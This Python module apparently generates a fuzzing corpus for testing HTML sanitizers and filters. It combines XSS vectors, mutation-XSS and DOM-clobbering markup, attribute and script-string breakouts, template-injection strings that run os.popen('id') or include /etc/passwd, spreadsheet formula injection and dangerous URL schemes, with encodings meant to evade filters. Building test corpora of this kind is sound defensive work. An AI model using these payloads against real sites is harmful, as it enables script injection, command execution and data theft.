"""Texts that try to be more than text: every way we know by which words on a page become a program, a request or a frame.

Made as vectors × ways out of the place where the words stand × spellings, so that a new vector is tried in every place. Compare the
OWASP filter evasion list and the writings on mutation XSS by Heiderich and others (CCS 2013) and on DOM clobbering.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from typing import Final
from urllib.parse import quote

AWAY: Final = "https://canary.example/"
RUN: Final = "alert(1)"

# Elements that run, ask or frame by themselves, as soon as they are on a page.
ELEMENTS: Final = (
    f"<script>{RUN}</script>",
    f"<SCRIPT\t>{RUN}</SCRIPT\n>",
    f"<script/x>{RUN}</script>",
    f"<script src={AWAY}x.js></script>",
    f"<script type=module>import '{AWAY}x.js'</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f'<img """><script>{RUN}</script>">',
    f"<img src={AWAY}x.png>",
    "<img src=//canary.example/x.png>",
    f"<img srcset='{AWAY}x.png 1x'>",
    f"<picture><source srcset={AWAY}x.png><img></picture>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror={RUN} /></svg>#x' /></svg>",
    f"<svg><image href={AWAY}x.svg /></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'></table></mtext></math>",
    f"<math><mi//xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'></form>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option><style></option></select><img src=x onerror={RUN}></style>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video poster={AWAY}x.png></video>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style>@keyframes k{{}}</style><xss style='animation:k 1s' onanimationstart={RUN}></xss>",
    f"<xss tabindex=1 autofocus onfocus={RUN}></xss>",
    f"<style>@import '{AWAY}x.css';</style>",
    f"<style>*{{background:url({AWAY}x.png)}}</style>",
    f"<link rel=stylesheet href={AWAY}x.css>",
    f"<link rel=preload as=script href={AWAY}x.js>",
    f"<link rel=dns-prefetch href={AWAY}>",
    f"<p style='background:url({AWAY}x.png)'>x</p>",
    f"<p style='width:expression({RUN});-moz-binding:url({AWAY}x.xml#x)'>x</p>",
    f"<table background={AWAY}x.png><td background={AWAY}y.png></table>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe srcdoc=&lt;script&gt;{RUN}&lt;/script&gt;></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<frameset onload={RUN}><frame></frameset>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<object data={AWAY}x.svg type=image/svg+xml></object>",
    f"<embed src={AWAY}x.svg>",
    f"<applet code={AWAY}></applet>",
    f"<portal src={AWAY}></portal>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta http-equiv=Content-Security-Policy content='script-src {AWAY}'>",
    f"<base href={AWAY}>",
    f"<form action={AWAY}><input name=q value=1><button autofocus>x</button></form>",
    f"<a href=javascript:{RUN} ping={AWAY}>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<template><script>{RUN}</script></template><img src=x onerror={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<//><img src=x onerror={RUN}>",
    f"<a<b><img src=x onerror={RUN}>",
)
# Names that hide the page's own, should a program look there.
CLOBBERING: Final = tuple(
    f"<{tag} id={name} name={name}>x</{tag}>"
    for tag in ("form", "a", "img", "object")
    for name in ("body", "cookie", "page", "text", "location", "__proto__", "getElementById", "head")
)
# Ways out of a text, an attribute, an element whose text is raw, a comment, a string in a script.
WAYS_OUT: Final = ("", '">', "'>", "</title>", "</script>", "</style></textarea>", "</desc></svg>", "-->", '"}</script>', "\\'</bdi></p>")
HANDLERS: Final = ("onmouseover", "onfocus", "onclick", "onerror", "onload", "onpointerenter", "onbeforetoggle", "onanimationstart")
BREAKOUTS: Final = tuple(
    f"{mark}{gap}{handler}={mark}{RUN}{mark}{gap}autofocus tabindex=1 x={mark}"
    for mark in ('"', "'", "`", "")
    for gap in (" ", "/", "\n", "\t")
    for handler in HANDLERS
)
STRINGS: Final = tuple(
    f"{end}{RUN}{again}"
    for end, again in (
        ("';", "//"),
        ('";', "//"),
        ("`;", "//"),
        ("\\';", "//"),
        ('\\";', "//"),
        ("\u2028", "\u2028"),
        ("\u2029", "\u2029"),
        ("*/", "/*"),
        ("</script><script>", "</script>"),
        ("<!--<script>", "</script>-->"),
        ("]]>", "<![CDATA["),
        ("'-", "-'"),
        ('"-', '-"'),
        ("${", "}"),
        ("\\u0027;", "//"),
        ("\\x3cscript\\x3e", "\\x3c/script\\x3e"),
        ("+ADw-script+AD4-", "+ADw-/script+AD4-"),
    )
)
TEMPLATES: Final = (
    "{{7*7}}",
    "{{ self.__class__.__mro__ }}",
    "{{''.__class__.__base__.__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ page|safe }}",
    "{% raw %}",
    "{% for x in (1).__class__ %}",
    "{% include '/etc/passwd' %}",
    "{# hidden #}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{n}",
    "%(name)s%s%n",
    "*{7*7}",
    "@(7*7)",
    "[[${7*7}]]",
)
FORMULAS: Final = ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//canary.example/")', "|x")
WRITING: Final = (
    "\u202e<tpircs>",
    "\u2066\u202e\u2069",
    "a\u200bb\ufeff",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<img src=x one\x00rror=alert(1)>",
    "\x0b\x0c\x1b[31m\x07",
    "\x85\xa0",
    "＜script＞alert(1)＜/script＞",
    "‹img src=x onerror=alert(1)›",
    "𝒳" * 300,
    "a" * 3000,
    "<" * 500,
    "&" * 300,
    "</bdi>" * 100,
    "e" + "\u0301" * 200,
)
SCHEMES: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java&#9;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://x.example/%0a{RUN}",
    f"jav\x00ascript:{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "data:,x",
    "blob:https://x.example/1",
    "filesystem:https://x.example/1",
    "view-source:https://x.example",
    f"feed:javascript:{RUN}",
    "file:///etc/passwd",
    "//canary.example/",
    "\\\\canary.example\\x",
    "/\\canary.example",
    "https:canary.example",
    "https:///canary.example",
    "http://a\\@canary.example/",
    "https://name:word@canary.example/",
    f'https://x.example/" onmouseover="{RUN}',
    f"https://x.example/' onfocus='{RUN}",
    f"https://x.example/><img src=x onerror={RUN}>",
    "https://x.example/\u202egpj.exe",
    "https://x.example/#<svg onload=alert(1)>",
    "about:blank",
    "mailto:a@x.example?body=<script>",
    "intent://x#Intent;end",
    "ms-word:ofe|u|https://x.example/",
)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(letter):x};" for letter in text)


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(letter):07d}" for letter in text)


def _unicode(text: str) -> str:
    return "".join(f"\\u{ord(letter):04x}" for letter in text)


SPELLINGS: Final[tuple[Callable[[str], str], ...]] = (
    html.escape,
    lambda text: html.escape(html.escape(text)),
    _hex,
    _decimal,
    quote,
    lambda text: quote(quote(text)),
    _unicode,
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "&LT").replace(">", "&GT"),
    str.upper,
)


def payloads() -> tuple[str, ...]:
    """Every payload once, always in the same order."""
    return tuple(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for number, element in enumerate(ELEMENTS):
        for step in range(3):  # each vector bare and with two of the ways out; each way out with many vectors
            yield WAYS_OUT[0 if not step else 1 + (number * 2 + step) % (len(WAYS_OUT) - 1)] + element
        yield SPELLINGS[number % len(SPELLINGS)](element)
    yield from CLOBBERING
    yield from BREAKOUTS
    yield from STRINGS
    yield from TEMPLATES
    yield from FORMULAS
    yield from WRITING
    yield from SCHEMES
